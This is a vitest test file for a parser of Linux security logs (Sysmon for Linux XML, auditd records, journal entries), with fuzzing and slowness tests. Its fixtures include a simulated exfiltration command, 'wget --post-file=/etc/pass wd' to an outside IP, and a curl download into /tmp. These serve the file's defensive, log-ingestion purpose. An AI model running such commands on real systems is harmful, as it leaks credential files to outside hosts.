import fc from "fast-check";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { LinuxReader, recognise } from "../../../src/sources/linux/index.js";
import { socketAddress } from "../../../src/sources/linux/socket-address.js";
import { accounted, type Bench, openBench } from "../runner.js";
import {
  EXECVE,
  journalLine,
  LOGIN,
  PROCESS,
  SERVICE_STOP,
  SOCKADDR,
  syslogLine,
  sysmonEvent,
} from "./samples.js";

let bench: Bench;
beforeAll(async () => {
  bench = await openBench();
});
afterAll(() => bench.close());

const rows = (columns: string) => bench.rows("windows_event", columns);
const lines = (...all: readonly string[]) => all.map((line) => `${line}\n`).join("");

describe("Sysmon for Linux", () => {
  test("golden row, behind the head of a syslog's line; other programs' lines are unused", async () => {
    const outcome = await bench.read(
      "syslog",
      lines(
        "Mar  1 11:59:00 web01 CRON[1]: (root) CMD (true)",
        syslogLine(sysmonEvent(1, 77, PROCESS)),
        "Mar  1 12:00:02 web01 kernel: [1.0] eth0: link up",
      ),
    );
    expect(outcome).toMatchObject({
      format: "sysmon-linux",
      unused: 2,
      rejects: [],
      rows: { windows_event: 1 },
    });
    expect(accounted(outcome)).toBe(3);
    const [row] = await rows(
      "source_line, product, time, channel, provider, event_id, computer, level, user_sid, system, data, context",
    );
    expect(row).toEqual({
      source_line: 2,
      product: "sysmon-linux",
      time: "2024-03-01 12:00:00.123456",
      channel: "Linux-Sysmon/Operational",
      provider: "Linux-Sysmon",
      event_id: 1,
      computer: "web01",
      level: 4,
      user_sid: "0",
      system: {
        Provider_Name: "Linux-Sysmon",
        Provider_Guid: "{ff032593-a8d3-4f13-b0d6-01fc615a0f97}",
        EventID: "1",
        Version: "5",
        Level: "4",
        Task: "1",
        Opcode: "0",
        Keywords: "0x8000000000000000",
        TimeCreated_SystemTime: "2024-03-01T12:00:00.123456000Z",
        EventRecordID: "77",
        Correlation: "",
        Execution_ProcessID: "610",
        Execution_ThreadID: "611",
        Channel: "Linux-Sysmon/Operational",
        Computer: "web01",
        Security_UserID: "0",
      },
      data: { ...PROCESS, CommandLine: 'curl -s "http://203.0.113.7/?a=1&b=2" -o /tmp/x' },
      context: {},
    });
  });

  test("lines of XML alone, RFC 5424, and the journal give the same", async () => {
    const event = sysmonEvent(1, 1, PROCESS);
    for (const line of [
      event,
      `<30>1 2024-03-01T12:00:01+00:00 web01 sysmon 610 - - ${event}`,
      journalLine({ SYSLOG_IDENTIFIER: "sysmon", MESSAGE: event }),
      journalLine({ SYSLOG_IDENTIFIER: "sysmon", MESSAGE: [...Buffer.from(event)] }),
    ]) {
      await bench.read("x.log", lines(line));
      expect(await rows("computer, data['Image'] AS image, event_id")).toEqual([
        { computer: "web01", image: "/usr/bin/curl", event_id: 1 },
      ]);
    }
  });

  test.each<[string, string, RegExp]>([
    ["breaks off", syslogLine(sysmonEvent(1, 2, PROCESS).slice(0, 400)), /breaks off: it has no <\/Event>/],
    ["is no XML", "<Event><System><EventID>1</System></Event>", /not well-formed XML/],
    ["has a second root", "<Event></Event><Event></Event>", /not well-formed XML/],
    ["has no time", sysmonEvent(1, 2, PROCESS).replace("2024-03-01T12:00:00.123456000Z", ""), /no time/],
    ["is of the future", sysmonEvent(1, 2, PROCESS).replace("2024-03-01T", "2100-01-01T"), /in the future/],
  ])("an event that %s is rejected", async (_, line, reason) => {
    const good = syslogLine(sysmonEvent(1, 1, PROCESS));
    const outcome = await bench.read("syslog", lines(good, line, good));
    expect(outcome.rows).toEqual({ windows_event: 2 });
    expect(outcome.rejects).toEqual([{ line: 2, reason: expect.stringMatching(reason) }]);
  });
});

describe("auditd", () => {
  test("each record is a row; the others of an event know who acted", async () => {
    const outcome = await bench.read("audit.log", lines(...EXECVE(456)));
    expect(outcome).toMatchObject({ format: "auditd", unused: 0, rejects: [], rows: { windows_event: 6 } });
    const all = await rows(
      "time, channel, provider, event_id, computer, system['EventRecordID'] AS serial, data, lists, context",
    );
    const who = {
      ...{ pid: "1234", ppid: "1200", auid: "1000", uid: "0", euid: "0", tty: "pts0", ses: "3" },
      ...{ comm: "wget", exe: "/usr/bin/wget", key: "net\nsusp_activity", success: "yes", SYSCALL: "execve" },
    };
    expect(all[0]).toMatchObject({
      time: "2024-03-01 12:00:00.123000",
      channel: "auditd",
      provider: "auditd",
      event_id: 1300,
      computer: "",
      serial: "456",
      data: { type: "SYSCALL", syscall: "59", SYSCALL: "execve", exe: "/usr/bin/wget", a0: "55d" },
      lists: { key: ["net", "susp_activity"] },
      context: {},
    });
    expect(all[1]).toMatchObject({
      event_id: 1309,
      data: {
        type: "EXECVE",
        argc: "3",
        a0: "wget",
        a1: "--post-file=/etc/pass wd",
        a2: "http://203.0.113.7/",
      },
      context: { ...who, command_line: "wget --post-file=/etc/pass wd http://203.0.113.7/" },
    });
    expect(all[3]).toMatchObject({
      event_id: 1302,
      data: { name: "/usr/bin/wget" },
      context: { ...who, cwd: "/root" },
    });
    expect(all[4]?.data).toEqual({
      type: "PROCTITLE",
      proctitle: "wget --post-file=/etc/pass wd http://203.0.113.7/",
    });
  });

  test("records of programs, of the enriched form, of sockets, with a node and in a syslog", async () => {
    await bench.read(
      "audit.log",
      lines(
        SERVICE_STOP,
        `node=db01 ${LOGIN}`,
        syslogLine(SOCKADDR, "audisp-syslog[7]"),
        syslogLine(
          'type=1400 audit(1709294404.000:12): apparmor="DENIED" operation="open"',
          "kernel: [5.1] audit",
        ),
      ),
    );
    expect(await rows("event_id, computer, data")).toEqual([
      {
        event_id: 1131,
        computer: "",
        data: {
          ...{ type: "SERVICE_STOP", pid: "1", uid: "0", auid: "4294967295", ses: "4294967295" },
          ...{ subj: "system_u:system_r:init_t:s0", unit: "firewalld", comm: "systemd" },
          ...{ exe: "/usr/lib/systemd/systemd", hostname: "?", addr: "?", terminal: "?", res: "success" },
          ...{ UID: "root", AUID: "unset" },
        },
      },
      {
        event_id: 1112,
        computer: "db01",
        data: expect.objectContaining({ acct: "eve", addr: "203.0.113.9", res: "failed", op: "login" }),
      },
      {
        event_id: 1306,
        computer: "web01",
        data: expect.objectContaining({ saddr_fam: "inet", laddr: "203.0.113.7", lport: "443" }),
      },
      {
        event_id: 1400,
        computer: "web01",
        data: { type: "AVC", apparmor: "DENIED", operation: "open" },
      },
    ]);
  });

  test("audit records of the journal", async () => {
    await bench.read(
      "journal.json",
      lines(
        journalLine({
          _TRANSPORT: "audit",
          _AUDIT_ID: "456",
          _SOURCE_REALTIME_TIMESTAMP: "1709294400123000",
          MESSAGE: 'EXECVE argc=1 a0="id"',
        }),
        journalLine({ _TRANSPORT: "syslog", MESSAGE: "hello" }),
      ),
    );
    expect(await rows("time, computer, event_id, data['a0'] AS a0")).toEqual([
      { time: "2024-03-01 12:00:00.123000", computer: "web02", event_id: 1309, a0: "id" },
    ]);
  });

  test("a long argument comes in parts; events stand in turns", async () => {
    const [first, second] = [EXECVE(1), EXECVE(2)];
    const head = "type=EXECVE msg=audit(1709294400.123:2):";
    await bench.read(
      "audit.log",
      lines(
        first[0] as string,
        (second[0] as string).replace("/usr/bin/wget", "/bin/sh"),
        first[1] as string,
        `${head} argc=2 a0="sh" a1_len=8 a1[0]=61626364 a1[1]=65666768`,
      ),
    );
    expect(await rows("data['a1'] AS a1, context['exe'] AS exe")).toMatchObject([
      { exe: "" },
      { exe: "" },
      { exe: "/usr/bin/wget" },
      { a1: "abcdefgh", exe: "/bin/sh" },
    ]);
  });

  test("the number of a system call is of its machine's table", async () => {
    const read = (text: string) => {
      const reading = new LinuxReader().read(`type=SYSCALL msg=audit(1.000:1): ${text}`);
      return Array.isArray(reading) ? reading[0].data.get("SYSCALL") : reading;
    };
    expect(read("arch=c000003e syscall=319 a0=1")).toBe("memfd_create");
    expect(read("arch=c00000b7 syscall=221")).toBe("execve");
    expect(read("arch=40000003 syscall=11")).toBeUndefined();
    expect(read("arch=c000003e syscall=59\u001dSYSCALL=execve")).toBe("execve");
  });

  test.each([
    ["020001BBCB007107", { saddr_fam: "inet", laddr: "203.0.113.7", lport: "443" }],
    [
      "0A0000350000000020010DB8000000000000000000000001",
      { saddr_fam: "inet6", laddr: "2001:db8::1", lport: "53" },
    ],
    ["0A0000350000000000000000000000000000000000000000", { saddr_fam: "inet6", laddr: "::", lport: "53" }],
    [`0100${Buffer.from("/run/x").toString("hex")}0000`, { saddr_fam: "local", path: "/run/x" }],
    ["10000000", {}],
    ["zz", {}],
  ])("the socket's address %s", (hex, expected) => {
    expect(Object.fromEntries(socketAddress(hex))).toEqual(expected);
  });
});

test("files without such events are refused with the reason", () => {
  const refused = (text: string) => {
    const found = recognise(Buffer.from(text));
    return "refused" in found ? found.refused : found.product;
  };
  expect(refused("Mar  1 12:00:00 web01 sshd[1]: hello\n")).toBe(
    "no line holds an event as XML or an audit record",
  );
  expect(refused(syslogLine("<Event> is a word"))).toMatch(/the first event: the event breaks off/);
  expect(
    refused(`${"Mar  1 12:00:00 web01 cron: x\n".repeat(5000)}${syslogLine(sysmonEvent(1, 1, PROCESS))}\n`),
  ).toBe("sysmon-linux");
});

const shard = fc.oneof(
  fc.constantFrom(
    "<",
    ">",
    "</",
    "/>",
    '"',
    "'",
    "&#x110000;",
    "&#0;",
    "&amp;",
    "{",
    "}",
    "=",
    " ",
    "\u001d",
    "type=",
    "msg='",
  ),
  fc.constantFrom(
    "audit(",
    "1.2:3):",
    "<Event>",
    "</Event>",
    "a1[0]=",
    "node=",
    "FF",
    "\\u0000",
    "[",
    "(null)",
  ),
  fc.string({ unit: "binary", maxLength: 6 }),
);
const SEEDS = [
  ...EXECVE(5),
  ...[SERVICE_STOP, LOGIN, SOCKADDR, syslogLine(sysmonEvent(1, 1, PROCESS))],
  journalLine({ MESSAGE: sysmonEvent(3, 1, PROCESS) }),
];

test("whatever is done to a line, it is an event, refused with a reason, or of something else", () => {
  const mutated = fc
    .tuple(
      fc.constantFrom(...SEEDS),
      fc.array(fc.tuple(fc.nat(1200), fc.nat(12), shard), { minLength: 1, maxLength: 4 }),
    )
    .map(([seed, edits]) =>
      edits.reduce((text, [at, cut, put]) => text.slice(0, at) + put + text.slice(at + cut), seed),
    );
  const reader = new LinuxReader();
  let events = 0;
  fc.assert(
    fc.property(mutated, (line) => {
      const reading = reader.read(line);
      if (reading === undefined) return;
      if ("refused" in reading) expect(reading.refused.length).toBeGreaterThan(5);
      else events += reading.length;
    }),
    { numRuns: 5000 },
  );
  expect(events).toBeGreaterThan(1000);
});

test("a line that was made to take long does not", () => {
  const reader = new LinuxReader();
  const length = 1024 ** 2;
  const head = "type=EXECVE msg=audit(1709294400.123:1): ";
  for (const line of [
    head + "a={ ".repeat(length / 4),
    head + 'a="b '.repeat(length / 5),
    head + "msg='".repeat(length / 5),
    head + "a".repeat(length),
    `${"node=x ".repeat(length / 7)}audit(`,
    `${"type=A  ".repeat(length / 8)}audit(`,
    `<Event ${" ".repeat(length)}x</Event>`,
    `<Event>${"<a b='".repeat(length / 6)}</Event>`,
    `<Event>${"<a>".repeat(length / 3)}</Event>`,
  ]) {
    const started = performance.now();
    reader.read(line);
    expect(performance.now() - started).toBeLessThan(2000);
  }
});
